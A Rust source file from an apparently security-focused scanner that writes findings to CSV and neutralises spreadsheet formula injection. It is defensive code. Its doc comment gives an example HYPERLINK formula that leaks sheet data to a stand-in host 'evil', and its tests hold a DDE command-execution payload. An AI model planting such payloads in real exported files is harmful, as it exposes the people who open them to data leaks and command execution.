//! CSV: one row per finding (`e`, `scan --format csv`), and the seed's own
//! result table (`scan --format csv --semantics splunk`).
//!
//! A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or
//! `@` (and, in some, a tab or carriage return) as a formula: a user agent
//! of `=HYPERLINK("http://evil/?"&A1,"click")` would leak the sheet or worse.
//! Every cell is sanitised ([`crate::sanitize::escape`], which already turns
//! tabs and line breaks into visible `\u{9}`) and then [`neutralise`]d: a cell
//! that could start a formula gets a leading `'`, the apostrophe spreadsheets
//! treat as "this is text" and do not display.

use super::evidence::Evidence;
use super::finding_json::CSV_COLUMNS;
use crate::event::time::{ctime, rfc3339};
use crate::rules::{Finding, RuleSet};
use crate::sanitize::escape;
use serde_json::Value;
use std::borrow::Cow;
use std::io::{self, Write};

/// Characters that make a spreadsheet read a cell as a formula when they
/// come first: the four OWASP names, tab and carriage return, their
/// full-width forms (which some spreadsheets fold to ASCII), and `'` itself,
/// so that a value that really starts with `'` keeps it when shown.
pub const FORMULA_START: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}', '\'',
];

/// Whether a spreadsheet could read `cell` as a formula (or eat its first
/// character): its first character after leading whitespace is in
/// [`FORMULA_START`]. Leading spaces count because some spreadsheets trim
/// them before deciding.
pub fn is_risky(cell: &str) -> bool {
    cell.trim_start_matches([' ', '\u{a0}', '\u{3000}'])
        .starts_with(FORMULA_START)
}

/// `cell` with a `'` in front when a spreadsheet could run it as a formula.
/// What the spreadsheet shows is then exactly `cell`.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if is_risky(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A log value as a CSV cell: sanitised, then neutralised.
pub fn cell(s: &str) -> String {
    neutralise(&escape(s)).into_owned()
}

/// Columns of the per-finding CSV: those `scan --format csv` always had,
/// then the evidence and triage columns.
pub const EVIDENCE_EXTRA_COLUMNS: &[&str] = &[
    "semantics",
    "attack",
    "status",
    "suppressed_by",
    "notes",
    "new_key_uses",
    "summary",
];

/// One row per finding: [`CSV_COLUMNS`] then [`EVIDENCE_EXTRA_COLUMNS`].
/// Times are RFC 3339 in UTC; `status`, `suppressed_by` and `notes` are
/// empty when triage was not looked up.
pub fn write_evidence(out: &mut dyn Write, evidence: &[Evidence]) -> io::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    let header: Vec<&str> = CSV_COLUMNS
        .iter()
        .chain(EVIDENCE_EXTRA_COLUMNS)
        .copied()
        .collect();
    w.write_record(&header)?;
    for ev in evidence {
        let v = ev.base_json();
        let mut row: Vec<String> = CSV_COLUMNS
            .iter()
            .map(|c| {
                let x = match c.split_once('.') {
                    Some((a, b)) => &v[a][b],
                    None => &v[*c],
                };
                match x {
                    Value::Null => String::new(),
                    Value::String(s) => cell(s),
                    other => cell(&other.to_string()),
                }
            })
            .collect();
        let t = ev.triage.as_ref();
        row.push(ev.finding.semantics.name().to_string());
        row.push(cell(
            &ev.attack
                .iter()
                .map(|a| a.id.as_str())
                .collect::<Vec<_>>()
                .join("; "),
        ));
        row.push(t.map_or(String::new(), |t| t.status.name().to_string()));
        row.push(
            t.and_then(|t| t.suppressed_by.as_ref())
                .map_or(String::new(), |s| cell(&format!("{}: {}", s.id, s.reason))),
        );
        row.push(t.map_or(String::new(), |t| {
            cell(
                &t.notes
                    .iter()
                    .map(|n| {
                        format!(
                            "{} {}: {}",
                            rfc3339(Some(n.at.timestamp_millis())).unwrap_or_default(),
                            n.by,
                            n.text
                        )
                    })
                    .collect::<Vec<_>>()
                    .join("; "),
            )
        }));
        row.push(
            ev.key_usage
                .as_ref()
                .map_or(String::new(), |u| u.events.to_string()),
        );
        row.push(cell(&ev.summary()));
        w.write_record(&row)?;
    }
    w.flush()
}

/// The seed's result table, column for column: the by-fields, then count,
/// firstTime and lastTime formatted by `security_content_ctime`.
pub fn write_splunk(out: &mut dyn Write, findings: &[Finding], rules: &RuleSet) -> io::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    let by: Vec<String> = findings
        .first()
        .map(|f| f.group.iter().map(|(k, _)| k.clone()).collect())
        .or_else(|| rules.rules.first().map(|r| r.rule.splunk.by.clone()))
        .unwrap_or_default();
    let mut header: Vec<String> = by.iter().map(|b| cell(b)).collect();
    header.extend(["count", "firstTime", "lastTime"].map(String::from));
    w.write_record(&header)?;
    for f in findings {
        let mut row: Vec<String> = f
            .group
            .iter()
            .map(|(_, v)| cell(v.as_deref().unwrap_or_default()))
            .collect();
        row.push(f.count.to_string());
        row.push(ctime(f.first_time));
        row.push(ctime(f.last_time));
        w.write_record(&row)?;
    }
    w.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        for bad in [
            "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", " =1", "＝1", "'x",
        ] {
            let n = neutralise(bad);
            assert!(n.starts_with('\''), "{bad:?} → {n:?}");
            assert_eq!(&n[1..], bad);
        }
        assert_eq!(neutralise("aws-cli/2.0"), "aws-cli/2.0");
        assert_eq!(neutralise(""), "");
    }

    #[test]
    fn cells_are_sanitised_then_neutralised() {
        assert_eq!(cell("=cmd|'/c calc'!A0"), "'=cmd|'/c calc'!A0");
        // A tab becomes visible text first, so it no longer starts a formula.
        assert_eq!(cell("\t=1"), "\\u{9}=1");
        assert_eq!(cell("-\x1b[2J"), "'-\\u{1b}[2J");
    }
}
